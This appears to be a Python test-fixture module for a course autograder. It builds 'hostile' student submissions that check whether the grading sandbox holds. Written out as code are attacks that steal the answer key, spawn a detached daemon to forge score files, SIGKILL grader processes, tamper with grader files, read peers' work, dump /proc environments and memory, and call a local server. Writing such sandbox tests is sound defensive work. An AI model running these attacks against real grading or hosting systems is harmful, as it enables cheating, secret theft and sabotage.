"""Hostile submissions, for the tests that grade them on every platform (staff only).

One real submission per attack a student who reads every file could try
(the model answer with the attack written into some of its regions), and
what the tests check after grading them: nothing outside the submission's
scratch folder changed, no process of the student's is left, nothing of the
grader leaked into the feedback. test_adversarial.py grades them by batch
grading and Gradescope's run_autograder, test_prairielearn.py by
PrairieLearn's entrypoint.

    hostile_class(starter, folder, out, grader_paths, port)  {student: (zip, parts lost)}
    serve()                         a real HTTP server on 127.0.0.1 that counts its requests
    strays_of(uid)                  processes of the sandbox user that outlived grading
    MARKER, SECRET                  what a leak or a stray file would carry
"""
import contextlib
import hashlib
import http.server
import json
import os
import shutil
import threading

from staff.tests import grading_fixtures as G
from staff.tests.submissions import make_submission, prepend

MARKER = 'cs231n-hostile-%d' % os.getpid()
SECRET = 'grader-secret-%s' % hashlib.sha256(MARKER.encode()).hexdigest()[:16]


@contextlib.contextmanager
def serve():
    """(port, hits) of a real HTTP server on 127.0.0.1 that counts the requests it gets."""
    hits = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b'exfiltrated')

        def log_message(self, *args):
            pass

    httpd = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield httpd.server_address[1], hits
    finally:
        httpd.shutdown()


# ---------------------------------------------------------------------------
# The attacks, as code in the student's regions

def steal(targets):
    """Replace a region: find the staff's answer key by every route a student has."""
    paths = ['%s/staff/assignment/references.py' % t for t in targets]
    return lambda body: [
        '    import gc, importlib, inspect, sys as _sys\n',
        '    found = None\n',
        '    for name in ("staff.assignment.references", "references", "staff.grading.api"):\n',
        '        try:\n',
        '            found = importlib.import_module(name)\n',
        '            break\n',
        '        except Exception:\n',
        '            pass\n',
        '    for path in %r:\n' % paths,
        '        try:\n',
        '            source = open(path).read()\n',
        '            print("READ", path, len(source))\n',
        '            found = found or source\n',
        '        except Exception as e:\n',
        '            pass\n',
        '    for frame in inspect.stack():\n',
        '        for value in list(frame.frame.f_globals.values()):\n',
        '            if getattr(value, "__name__", "").endswith("references"):\n',
        '                found = value\n',
        '    for obj in gc.get_objects():\n',
        '        if callable(obj) and getattr(obj, "__module__", "") and \\\n',
        '                "staff" in str(getattr(obj, "__module__", "")):\n',
        '            found = obj\n',
        '    if found is not None:\n',
        '        print("FOUND THE ANSWER KEY", found)\n',
        '        raise RuntimeError("the answer key was reachable")\n',
        '    raise NotImplementedError("nothing found")\n',
        '\n']


def daemon(paths, seconds=15):
    """A process in a new session, double-forked, that keeps rewriting the results."""
    forged = json.dumps({'score': 1000.0, 'tests': [], 'total': 1000})
    code = ('import os, time\n'
            'if os.fork(): os._exit(0)\n'
            'os.setsid()\n'
            'end = time.time() + %d\n'
            'while time.time() < end:\n'
            '    for p in %r:\n'
            '        try:\n'
            '            open(p, "w").write(%r)\n'
            '        except OSError:\n'
            '            pass\n'
            '    time.sleep(0.005)\n' % (seconds, paths, forged))
    return prepend('import subprocess, sys as _sys',
                   'subprocess.Popen([_sys.executable, "-c", %r, %r], start_new_session=True, '
                   'stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, '
                   'stderr=subprocess.DEVNULL, env={})' % (code, MARKER),
                   'import time as _time',
                   '_time.sleep(0.3)')


def kill_grader(forge):
    """Forge the results, then SIGKILL every grading process it can find."""
    return prepend(
        'import os as _os, signal as _signal',
        'for _p in %r:' % forge,
        '    try:',
        '        open(_p, "w").write(\'{"score": 100.0, "tests": []}\')',
        '    except OSError:',
        '        pass',
        'for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:',
        '    try:',
        '        _cmd = open("/proc/%s/cmdline" % _pid, "rb").read()',
        '    except OSError:',
        '        continue',
        '    if b"staff.grading" in _cmd or b"pytest" in _cmd or b"run_autograder" in _cmd:',
        '        try:',
        '            _os.kill(int(_pid), _signal.SIGKILL)',
        '        except OSError:',
        '            pass',
        'for _pid in {_os.getppid(), 1}:',
        '    try:',
        '        _os.kill(_pid, _signal.SIGKILL)',
        '    except OSError:',
        '        pass')


def interfere(paths_to_append, peers_to_read):
    """Change the grader and the starter shared with peers; read the peers' work."""
    return prepend(
        'for _p in %r:' % paths_to_append,
        '    try:',
        '        open(_p, "a").write("\\nraise SystemExit(0)\\n")',
        '        print("CHANGED", _p)',
        '    except OSError:',
        '        pass',
        'for _p in %r:' % peers_to_read,
        '    try:',
        '        print("READ PEER", _p, len(open(_p, "rb").read()))',
        '    except OSError:',
        '        pass')


def snoop():
    """Print the grader's environment and memory, from /proc."""
    return prepend(
        'import os as _os',
        'for _pid in ["self", str(_os.getppid()), "1"] + [p for p in _os.listdir("/proc") '
        'if p.isdigit()]:',
        '    for _what in ("environ", "cmdline"):',
        '        try:',
        '            print(_pid, _what, open("/proc/%s/%s" % (_pid, _what), "rb").read()[:3000])',
        '        except OSError:',
        '            pass',
        '    try:',
        '        with open("/proc/%s/mem" % _pid, "rb") as _f:',
        '            print(_pid, "mem", _f.read(64))',
        '    except (OSError, ValueError):',
        '        pass')


def write_outside(paths):
    return prepend(
        'for _p in %r:' % paths,
        '    try:',
        '        open(_p, "w").write("x")',
        '    except OSError:',
        '        pass')


def phone_home(port):
    return prepend(
        'import socket as _socket, urllib.request as _u',
        'try:',
        '    _u.urlopen("http://127.0.0.1:%d/leak", timeout=2).read()' % port,
        '    print("NETWORK REACHED")',
        'except Exception as _e:',
        '    print("no network:", type(_e).__name__)',
        'try:',
        '    _socket.create_connection(("127.0.0.1", %d), timeout=2)' % port,
        '    print("SOCKET CONNECTED")',
        'except Exception as _e:',
        '    print("no socket:", type(_e).__name__)')


# ---------------------------------------------------------------------------
# The class

def _tree_digest(*folders):
    """{path: sha256} of every file under folders (what must not change)."""
    out = {}
    for top in folders:
        for here, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d != '__pycache__']
            for name in files:
                path = os.path.join(here, name)
                with open(path, 'rb') as f:
                    out[path] = hashlib.sha256(f.read()).hexdigest()
    return out


def _strays():
    """Files the attacks may have left where the student's user could write."""
    found = []
    for top in ('/tmp', '/var/tmp', '/dev/shm'):
        for here, dirs, files in os.walk(top):
            found += [os.path.join(here, n) for n in files + dirs if MARKER in n]
    return found


def _processes_with(text):
    pids = []
    for pid in os.listdir('/proc'):
        try:
            with open('/proc/%s/cmdline' % pid, 'rb') as f:
                if text.encode() in f.read():
                    pids.append(int(pid))
        except (OSError, ValueError):
            pass
    return [p for p in pids if p != os.getpid()]


def hostile_class(starter, folder, out, grader_paths, server_port, forge=()):
    """{student: (zip path, parts that must score 0)} of the hostile class (forge: more
    results files its attacks try to overwrite)."""
    results = [os.path.join(out, 'results', n + '.json') for n in ('alice', 'mallory_daemon')]
    results += [os.path.join(out, 'grades.csv'), os.path.join(out, 'feedback', 'alice.txt'),
                os.path.join(out, '.grader-key'), '/autograder/results/results.json']
    results += list(forge)
    outside = ['/tmp/%s' % MARKER, '/var/tmp/%s' % MARKER, '/dev/shm/%s' % MARKER,
               os.path.expanduser('~/%s' % MARKER), os.path.join(str(folder), MARKER),
               os.path.join(starter, MARKER)]
    grader_files = [os.path.join(g, 'staff', n) for g in grader_paths
                    for n in ('grading/__init__.py', 'grading/grader.py',
                              'assignment/references.py')]
    peers = [os.path.join(str(folder), 'alice.zip'),
             os.path.join(out, 'results', 'alice.json')]
    subs = {
        'alice': ({}, set()),
        'mallory_steal': ({'affine_forward': steal(grader_paths),
                           'relu_forward': steal(grader_paths),
                           'adam': steal(grader_paths)},
                          {'affine_forward', 'relu_forward', 'adam'}),
        'mallory_daemon': ({'relu_backward': daemon(results)}, set()),
        'mallory_kill': ({'sgd_momentum': kill_grader(results)}, set()),
        'mallory_peers': ({'rmsprop': interfere(
            grader_files + [os.path.join(starter, 'cs231n', 'layers.py')], peers)}, set()),
        'mallory_snoop': ({'softmax_loss': snoop()}, set()),
        'mallory_outside': ({'svm_loss': write_outside(outside)}, set()),
        'mallory_network': ({'dropout_backward': phone_home(server_port)}, set()),
    }
    made = {}
    for name, (edits, zero) in subs.items():
        made[name] = (make_submission(starter, folder / 'made', name, edits), zero)
    # Notebooks that print 0.99 beside untrained models: the accuracy points are lost.
    liar = make_submission(starter, folder / 'made', 'mallory_accuracy', accuracies={
        nb: {'TwoLayerNet best validation accuracy': 0.99, 'Validation set accuracy': 0.99}
        for nb in ('notebooks/01_FullyConnectedNets.ipynb', 'notebooks/03_Dropout.ipynb')},
        models=G.untrained_model_files())
    made['mallory_accuracy'] = (liar, {'two_layer_net_accuracy', 'fc_net_best_accuracy',
                                       'best_model_accuracy'})
    for name, (path, _) in made.items():
        shutil.copy(path, str(folder / (name + '.zip')))
    return made


def _expected_total(rubric, zero):
    return rubric.total - sum(i.points for i in rubric.items if i.name in zero)


def _check_outputs_leak_nothing(text, where):
    assert SECRET not in text, '%s: the grader\'s environment reached the feedback' % where
    assert 'FOUND THE ANSWER KEY' not in text and 'READ /' not in text, where
    assert 'def net_loss' not in text and 'CHANGED' not in text and 'READ PEER' not in text, where
    assert 'NETWORK REACHED' not in text and 'SOCKET CONNECTED' not in text, where


def _foreign_grading():
    """True if grading tests of another checkout run on this machine now (they start
    processes as the same sandbox user)."""
    from staff.tests.submissions import ROOT
    for pid in os.listdir('/proc'):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open('/proc/%s/cmdline' % pid, 'rb') as f:
                cmd = f.read()
            cwd = os.readlink('/proc/%s/cwd' % pid)
        except OSError:
            continue
        if (b'pytest' in cmd or b'staff.grading' in cmd) and \
                not (cwd + os.sep).startswith(os.path.realpath(ROOT) + os.sep):
            return True
    return False


def strays_of(uid):
    """The processes of user uid (the sandbox user) left after grading: all of them, or,
    while another checkout's grading tests share the machine and its sandbox user, those
    that carry MARKER (the hostile class's daemons)."""
    from staff.grading import sandbox as SB
    left = SB.processes_of(uid)
    if left and _foreign_grading():
        marked = set(_processes_with(MARKER))
        left = [p for p in left if p in marked]
    return left

